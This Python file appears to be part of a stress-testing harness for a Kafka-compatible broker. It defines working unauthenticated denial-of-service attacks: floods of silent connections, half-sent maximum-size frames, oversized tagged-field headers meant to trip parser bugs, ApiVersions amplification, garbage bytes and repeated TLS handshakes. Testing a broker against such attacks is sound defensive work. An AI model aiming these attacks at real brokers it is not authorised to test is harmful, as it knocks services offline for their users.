"""Attackers without a login: what they send costs the broker much, and them little."""

from __future__ import annotations

import asyncio
import random
import ssl
import struct
from collections import Counter

from forebay.wire.codec.layout import uvarint
from support.siege.attack import Attack, first_problem, swallow
from support.siege.connection import connect
from support.siege.target import Target

FRAME_BYTES = (524_288, 65_536)
"""The largest frames that a broker takes before a login: Kafka's default of `sasl.server.max.receive.size`,
and ours."""
_HOLD_S = 30.0
_HEADER = struct.Struct(">ihhih")
_API_VERSIONS = 18


class Silent(Attack):
    """Connections that say nothing, more than a broker keeps without a login."""

    name, connections = "silent", 1200

    async def once(self, number: int) -> None:
        door = self.target.tls_door if number % 2 else self.target.open_door
        stream = await connect(door(number // 2), number)
        self.count("connections")
        try:
            async with asyncio.timeout(_HOLD_S):
                await swallow(stream)
        finally:
            stream.close()


class HalfRequests(Attack):
    """All but the last byte of the largest requests: the broker has to keep them."""

    name, connections = "half-requests", 900
    requests = tuple(struct.pack(">i", size) + bytes(size - 1) for size in FRAME_BYTES)

    async def once(self, number: int) -> None:
        self.count("connections")
        stream = await connect(self.target.open_door(number), number)
        try:
            request = self.requests[number % len(self.requests)]
            await stream.send(request)
            self.count("bytes", len(request))
            async with asyncio.timeout(_HOLD_S):
                await swallow(stream)
        finally:
            stream.close()


class Headers(Attack):
    """Headers, or bodies, that are nothing but empty tagged fields, as large as they may be."""

    name, connections = "headers", 150

    def __init__(self, target: Target, done: Counter[str], share: float) -> None:
        super().__init__(target, done, share)
        self.frames = [make(size) for size in FRAME_BYTES for make in (tags_in_header, tags_in_body)]

    async def once(self, number: int) -> None:
        stream = await self.enter(number)
        try:
            while True:
                data = self.frames[number // 2 % len(self.frames)]
                await stream.send(data)
                self.count("bytes", len(data))
                await stream.discard()
        finally:
            stream.close()


class ApiVersionsFlood(Attack):
    """ApiVersions in a version that nobody serves: a small request, and hundreds of bytes to answer."""

    name, connections = "api-versions", 50
    requests = 1000

    def __init__(self, target: Target, done: Counter[str], share: float) -> None:
        super().__init__(target, done, share)
        self.blob = _HEADER.pack(_HEADER.size - 4, _API_VERSIONS, 30_000, 1, -1) * self.requests

    async def once(self, number: int) -> None:
        stream = await self.enter(number)
        try:
            with first_problem():
                async with asyncio.TaskGroup() as group:
                    group.create_task(swallow(stream))
                    while True:
                        await stream.send(self.blob)
                        self.count("requests", self.requests)
        finally:
            stream.close()


class Garbage(Attack):
    """Bytes of another protocol, or of none."""

    name, connections = "garbage", 100

    def __init__(self, target: Target, done: Counter[str], share: float) -> None:
        super().__init__(target, done, share)
        chance = random.Random("garbage")
        web = b"GET / HTTP/1.1\r\nHost: broker\r\n\r\n"
        framed = [struct.pack(">i", 60_000) + chance.randbytes(60_000) for _ in range(8)]
        self.texts = [web, *framed, *(chance.randbytes(4096) for _ in range(8)), b"\xff" * 4096, bytes(4096)]

    async def once(self, number: int) -> None:
        stream = await self.enter(number)
        try:
            await stream.send(self.texts[number % len(self.texts)])
            self.count("connections with garbage")
            async with asyncio.timeout(1):
                await swallow(stream)
        finally:
            stream.close()


class Handshakes(Attack):
    """The first message of a TLS handshake, repeated: the broker signs, the attacker only copies."""

    name, connections = "handshakes", 200

    def __init__(self, target: Target, done: Counter[str], share: float) -> None:
        super().__init__(target, done, share)
        self.hello = client_hello(self.tls)

    async def once(self, number: int) -> None:
        stream = await connect(self.target.tls_door(number), number)
        try:
            await stream.send(self.hello)
            self.count("handshakes begun")
            await stream.discard()
            if number % 4 == 0:  # some stay until they are shown out
                async with asyncio.timeout(_HOLD_S):
                    await swallow(stream)
        finally:
            stream.close()


def tags_in_header(frame_bytes: int) -> bytes:
    """As many empty tags as fit. The first one's number is chosen so that a parser that reads the count twice
    (as one that was given the whole of it for its first byte) finds as many again."""
    tags = (frame_bytes - 20) // 2
    first = uvarint(tags >> 7) + b"\0"
    return _framed(uvarint(tags) + first + bytes(2 * (tags - 1)), frame_bytes)


def tags_in_body(frame_bytes: int) -> bytes:
    names, tags = b"\x02a\x02b", (frame_bytes - 20) // 2
    return _framed(b"\0" + names + uvarint(tags) + bytes(2 * tags), frame_bytes)


def _framed(rest: bytes, frame_bytes: int) -> bytes:
    """A request ApiVersions 3 that goes on like this behind its client id."""
    size = _HEADER.size - 4 + len(rest)
    assert size <= frame_bytes, size
    return _HEADER.pack(size, _API_VERSIONS, 3, 1, -1) + rest


def client_hello(context: ssl.SSLContext) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="127.0.0.1")
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("a handshake needs two sides")
